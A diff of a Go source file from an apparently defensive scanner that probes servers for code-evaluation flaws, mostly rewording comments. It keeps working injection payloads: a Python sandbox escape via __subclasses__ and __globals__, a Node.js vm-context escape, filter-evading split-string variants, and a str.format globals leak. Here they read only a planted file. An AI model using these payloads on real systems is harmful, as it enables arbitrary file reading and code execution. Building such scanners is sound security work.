@@ -10,16 +10,15 @@ import (
 	"github.com/mcpaudit/mcpaudit/runner/lazyregexp"
 )
 
-// Expressions that open a planted file when they are evaluated, and are an odd text to all
-// else. That of Python needs no builtins, for who takes those away thinks that eval is safe.
+// Expressions that open a planted file when they are evaluated, and are odd texts otherwise. That of Python works
+// without builtins, whose removal is a common guard of eval.
 const (
 	python = `[c for c in ().__class__.__base__.__subclasses__() if c.__name__=="_wrap_close"][0].__init__.__globals__["open"]("@",0)`
 	// javaScript catches its rejection: an unhandled one would end Node.js where import is not allowed.
 	javaScript = `import("fs").then(f=>f.readFileSync("@")).catch(()=>0)`
-	// machine is for those who take a context of its own for a wall: what is handed into it
-	// leads out.
+	// machine leaves a separate context by way of an object that was passed into it.
 	machine = `(p=>p.getBuiltinModule?p.getBuiltinModule("fs"):p.mainModule.require("fs"))(this.constructor.constructor("return process")()).readFileSync("@")`
-	// spelled, escaped, and that of Python and of Jinja below, have no word in them that a list of forbidden ones may have.
+	// spelled, escaped, and two forms below avoid the words that a filter may forbid.
 	spelled = `globalThis["pro"+"cess"]["getBuiltin"+"Module"]("f"+"s")["read"+"FileSync"]("@")`
 	escaped = `this.constructor.constructor("return pro"+"cess")()["getBuiltin"+"Module"]("f"+"s")["read"+"FileSync"]("@")`
 )
@@ -76,15 +75,15 @@ var obeyedForms = []form{
 	under("as an option of EJS for names", "x="+machine, "localsName"),
 }
 
-// under is a form whose expression stands at a path of keys.
+// under is a form with the expression at a path of keys.
 func under(name, expression string, keys ...string) form {
 	f := evaluated(name, expression)
 	f.under = keys
 	return f
 }
 
-// formatted is a form whose proof is in the answer: it has a text of Python formatted with an object
-// that a template names, which leads to all that the server knows.
+// formatted is a form whose proof is in the answer: Python's str.format follows the attributes of an object
+// that a template names, to the globals of a module.
 var formatted = form{name: "in a text of Python that is formatted", write: func(f field, _ inputs.Mark, _ int) string {
 	name := "0"
 	if found := placeholder.FindStringSubmatch(f.core() + " " + f.said); found != nil {
@@ -93,34 +92,32 @@ var formatted = form{name: "in a text of Python that is formatted", write: func(
 	return f.before + "{" + name + ".__init__.__globals__}" + f.behind
 }}
 
-// placeholder is one of a template that is formatted.
+// placeholder matches a replacement field of str.format.
 var placeholder = lazyregexp.New(`\{([A-Za-z_]\w{0,31})(?:[.\[:!][^{}]{0,64})?\}`)
 
-// Formatted reports whether the answer to an attempt has the names that a module of Python knows.
+// Formatted reports whether the answer to an attempt shows the globals of a Python module.
 func (a Attempt) Formatted() bool {
 	return a.Family == Code && a.Form == formatted.name && a.Accepted && globals.MatchString(a.Answer)
 }
 
-// globals are how CPython writes what a module knows.
+// globals matches the globals of a module as CPython prints them.
 var globals = lazyregexp.New(`\{'__name__': '[\w.]{1,64}', '__doc__': `)
 
-// The bounds of family Code: how many attempts there are against one target, at how many places
-// all forms are tried, and how many forms at the others.
 const (
-	maxCode       = 72
-	maxCodeFields = 2
-	likelyCode    = 4
+	maxCode       = 72 // attempts on one target
+	maxCodeFields = 2  // fields for all forms
+	likelyCode    = 4  // forms for the other fields
 )
 
-// forCode are names, and words of descriptions, of what may be evaluated.
+// forCode matches names and descriptions of values that may be evaluated.
 var forCode = lazyregexp.New(`(?i)expr|formula|filter|template|condition|predicate|equation|query|transform|rule|spec|script|code|math|calc|yaml|xml|svg|feed|data|config|` +
 	`state|object|placeholder|snapshot|payload|pickle|base64|serial|session|dump|blob`)
 
-// packed are those of what may be a pickle.
+// packed matches those of values that may be a pickle.
 var packed = lazyregexp.New(`(?i)snapshot|payload|pickle|base64|serial|session|dump|blob|state|cache|token|object|model`)
 
-// codeSteps are the attempts of family Code: first at the places that are called like something
-// to be evaluated. A number is tried where nothing is a text.
+// codeSteps returns the attempts of family Code, first in the fields whose names suggest evaluation. Numbers come after
+// texts.
 func codeSteps(fields []field) (all []step) {
 	fields = slices.DeleteFunc(slices.Clone(fields), func(f field) bool { return f.next || !f.text && !f.number })
 	slices.SortStableFunc(fields, func(a, b field) int { return rankCode(a) - rankCode(b) })
@@ -140,25 +137,24 @@ func codeSteps(fields []field) (all []step) {
 	return all
 }
 
-// evaluated is a form by its expression: "@" stands for the file.
+// evaluated is a form with an expression, in which "@" stands for the file.
 func evaluated(name, expression string) form {
 	return form{name: name, write: func(f field, _ inputs.Mark, number int) string {
 		return f.before + strings.ReplaceAll(expression, "@", file(number)) + f.behind
 	}}
 }
 
-// behind is one that leaves the honest value before the expression, for a guard that looks at how a
-// value begins, or a value that something is put before.
+// behind keeps the honest value before the expression, for guards that check the beginning of a value.
 func behind(name, expression string) form {
 	return form{name: name, write: func(f field, m inputs.Mark, number int) string {
 		return f.before + cmp.Or(plain.FindString(f.core()), m.ID()) + strings.ReplaceAll(expression, "@", file(number)) + f.behind
 	}}
 }
 
-// file is the one that an expression opens.
+// file returns the file that an expression opens.
 func file(number int) string { return inputs.OutsideFile(number, ".txt") }
 
-// inBase64 is a form that is encoded in Base64.
+// inBase64 is a form in Base64.
 func inBase64(name, text string) form {
 	return form{name: name, packed: true, write: func(f field, _ inputs.Mark, number int) string {
 		return f.before + base64.StdEncoding.EncodeToString([]byte(strings.ReplaceAll(text, "@", file(number)))) + f.behind
